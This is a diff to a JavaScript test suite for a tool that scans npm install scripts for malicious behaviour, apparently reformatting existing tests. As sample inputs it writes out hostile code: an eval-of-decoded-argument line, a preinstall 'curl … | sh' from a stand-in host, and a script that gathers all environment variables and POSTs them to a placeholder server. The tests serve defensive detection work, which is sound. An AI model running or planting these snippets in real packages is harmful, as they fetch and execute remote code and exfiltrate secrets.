@@ -65,11 +65,20 @@ describe('real install scripts of well-known packages (copied from their tarball
 
 describe('the analysis', () => {
   it('locates each signal: the script text by its name, files by path and line', () => {
-    const analysis = analyzeInstallScripts([['postinstall', 'node a.js']], memoryReader({ 'a.js': "const x = 1;\nrequire('./b');\n", 'b.js': "\n\neval(atob(process.argv[2]));\n" }));
+    const analysis = analyzeInstallScripts(
+      [['postinstall', 'node a.js']],
+      memoryReader({ 'a.js': "const x = 1;\nrequire('./b');\n", 'b.js': '\n\neval(atob(process.argv[2]));\n' }),
+    );
     expect(analysis.files.map(({ path }) => path)).toEqual(['a.js', 'b.js']);
     expect(analysis.signals).toContainEqual({ kind: 'decode-then-execute', file: 'b.js', line: 3, excerpt: 'eval(atob(process.argv[2]));' });
     const shell = analyzeInstallScripts([['preinstall', 'echo hi\ncurl -s https://x.example.test/i | sh']], () => undefined);
-    expect(shell.signals).toContainEqual({ kind: 'download-and-execute', file: 'package.json#scripts.preinstall', line: 2, excerpt: 'curl -s https://x.example.test/i | sh', host: 'x.example.test' });
+    expect(shell.signals).toContainEqual({
+      kind: 'download-and-execute',
+      file: 'package.json#scripts.preinstall',
+      line: 2,
+      excerpt: 'curl -s https://x.example.test/i | sh',
+      host: 'x.example.test',
+    });
   });
 
   it('does not follow paths out of the package, and names files a script runs that are not there', () => {
@@ -105,14 +114,26 @@ describe('the analysis', () => {
   it('literal commands and trusted hosts are low; a computed command is medium', () => {
     const literal = analyzeInstallScripts([['postinstall', 'node a.js']], memoryReader({ 'a.js': "require('child_process').execSync('git --version');\n" }));
     expect(judgeSignals(literal.signals, trusted)).toBe('low');
-    const computed = analyzeInstallScripts([['postinstall', 'node a.js']], memoryReader({ 'a.js': "const cp = require('child_process');\ncp.execSync(process.argv[2]);\n" }));
+    const computed = analyzeInstallScripts(
+      [['postinstall', 'node a.js']],
+      memoryReader({ 'a.js': "const cp = require('child_process');\ncp.execSync(process.argv[2]);\n" }),
+    );
     expect(judgeSignals(computed.signals, trusted)).toBe('medium');
   });
 
   it('an environment handed to a child process is not a credential read; enumerating it to the network is', () => {
-    const child = analyzeInstallScripts([['postinstall', 'node a.js']], memoryReader({ 'a.js': "require('child_process').spawnSync('make', [], { env: { ...process.env, X: '1' } });\n" }));
+    const child = analyzeInstallScripts(
+      [['postinstall', 'node a.js']],
+      memoryReader({ 'a.js': "require('child_process').spawnSync('make', [], { env: { ...process.env, X: '1' } });\n" }),
+    );
     expect(kindsOf(child.signals)).not.toContain('reads-credentials');
-    const sent = analyzeInstallScripts([['postinstall', 'node a.js']], memoryReader({ 'a.js': "const all = {};\nfor (const k in process.env) all[k] = process.env[k];\nfetch('https://c.example.test', { method: 'POST', body: JSON.stringify(all) });\n" }));
+    const sent = analyzeInstallScripts(
+      [['postinstall', 'node a.js']],
+      memoryReader({
+        'a.js':
+          "const all = {};\nfor (const k in process.env) all[k] = process.env[k];\nfetch('https://c.example.test', { method: 'POST', body: JSON.stringify(all) });\n",
+      }),
+    );
     expect(judgeSignals(sent.signals, trusted)).toBe('critical');
   });
 });
